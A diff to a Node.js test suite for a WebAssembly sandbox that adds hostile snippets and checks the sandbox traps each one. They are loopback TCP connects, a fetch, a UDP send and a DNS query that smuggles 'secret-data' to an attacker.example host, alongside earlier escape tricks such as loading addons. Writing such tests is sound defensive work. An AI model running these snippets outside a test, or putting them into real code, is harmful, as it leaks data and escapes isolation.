@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict'
 import { readFile, writeFile } from 'node:fs/promises'
+import { createSocket } from 'node:dgram'
 import { createServer } from 'node:net'
 import { dirname, join } from 'node:path'
 import { describe, it } from 'node:test'
@@ -12,6 +13,7 @@ import { SandboxProcess } from '../../../../src/sandbox/process/sandbox-process.
 import { childrenOf } from '../../../helpers/child-processes.ts'
 import { findDebianProgram } from '../../../helpers/debian-program.ts'
 import { hostileComponent } from '../../../helpers/hostile-glue.ts'
+import { listenOnLoopback } from '../../../helpers/loopback-server.ts'
 import { temporaryFolder } from '../../../helpers/temporary-folder.ts'
 
 /** What JavaScript that broke out of WebAssembly may try; each says what came of it. */
@@ -32,6 +34,24 @@ const ATTEMPTS: Readonly<Record<string, string>> = {
   'open an inspector': `async () => (await import('node:inspector')).open(0)`,
   'load an addon': `(path) => process.dlopen({ exports: {} }, path)`,
   'make code from text': `() => new Function('return 1')()`,
+}
+
+/** What it may try at the network, with the port of a server on this machine. */
+const SOCKETS: Readonly<Record<string, string>> = {
+  connect: `async (port) => (await import('node:events')).once((await import('node:net')).connect(port, '127.0.0.1'), 'connect')`,
+  fetch: `async (port) => (await fetch('http://127.0.0.1:' + port)).status`,
+  send: `async (port) => {
+    const socket = (await import('node:dgram')).createSocket('udp4')
+    await new Promise((resolve, reject) => {
+      socket.on('error', reject).send('hello', port, '127.0.0.1', (error) => (error ? reject(error) : resolve()))
+    })
+  }`,
+  ask: `async (port) => {
+    const { Resolver } = await import('node:dns/promises')
+    const resolver = new Resolver({ timeout: 500, tries: 1 })
+    resolver.setServers(['127.0.0.1:' + port])
+    return resolver.resolve4('secret-data.attacker.example')
+  }`,
 }
 
 async function isolations(): Promise<readonly Isolation[]> {
@@ -60,23 +80,15 @@ for (const isolation of await isolations()) {
     if (forbidsNetwork)
       it('reaches no address, not even of this machine', async (t) => {
         const server = createServer((socket) => socket.end('hello'))
-        await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
-        t.after(() => server.close())
-        const address = server.address()
-        const component = await hostileComponent(
-          t,
-          {
-            connect: `async (port) => {
-            const { connect } = await import('node:net')
-            return await new Promise((resolve, reject) => connect(port, '127.0.0.1').on('connect', () => resolve('connected')).on('error', reject))
-          }`,
-            look: `async () => (await import('node:dns/promises')).lookup('localhost')`,
-          },
-          { isolation },
-        )
-        const port = typeof address === 'object' ? address?.port : 0
-        assert.equal((await component.call('connect', [port])).kind, 'trapped')
-        await component.call('look')
+        const port = Number((await listenOnLoopback(t, server)).split(':')[1])
+        const receiver = createSocket('udp4').bind(port, '127.0.0.1')
+        receiver.on('message', () => assert.fail('A datagram came out'))
+        t.after(() => receiver.close())
+        const component = await hostileComponent(t, SOCKETS, { isolation })
+        for (const attempt of Object.keys(SOCKETS)) {
+          const outcome = await component.call(attempt, [port])
+          assert.equal(outcome.kind, 'trapped', `It could ${attempt}: ${JSON.stringify(outcome)}`)
+        }
       })
 
     it('is gone when it is killed, however early', async () => {
